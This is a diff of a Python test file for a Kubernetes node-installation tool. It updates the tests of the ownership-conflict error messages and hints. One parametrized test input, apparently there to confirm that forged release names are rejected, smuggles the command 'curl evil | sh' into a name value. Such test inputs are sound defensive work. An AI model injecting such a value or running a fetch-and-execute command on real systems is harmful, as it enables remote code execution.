@@ -10,10 +10,10 @@ import pytest
 from kata_node.cluster import labels
 from kata_node.cluster.labels import NodeState, installation_label
 from kata_node.cluster.ownership import (
-    Conflict,
-    conflict_error,
     find_other_installation,
     find_other_release,
+    release_error,
+    suffix_error,
 )
 from kata_node.kube import node_status
 from kata_node.kube.node_status import NodeStatus
@@ -67,12 +67,12 @@ def test_a_release_with_the_same_suffix_is_found(releases: Mapping[str, str], fo
 
 def test_the_errors_name_the_nodes_and_the_way_out() -> None:
     nodes = [f"n{number}" for number in range(7)]
-    error = conflict_error(Conflict(installation="default"), nodes, "blue", MINE)
+    error = suffix_error("default", nodes, "blue", MINE)
     assert "on the Nodes n0, n1, n2, n3, n4 and 2 more" in error.what
     assert 'set it to ""; ' in error.hint
-    error = conflict_error(Conflict(release=OTHER), ["n1"], "blue", MINE)
+    error = release_error(OTHER, "n1", "blue", MINE)
     assert "on the Node n1 belongs to the release tenants/kata, not to kata-system/kata" in error.what
-    assert f"`kubectl annotate nodes --all {node_status.annotation('blue')}-`" in error.hint
+    assert "uninstall the release tenants/kata" in error.hint
 
 
 @pytest.mark.parametrize("forged", ["x/y`; run `curl evil | sh`", "no-namespace", "a/b/c", "A/B", "a /b"])
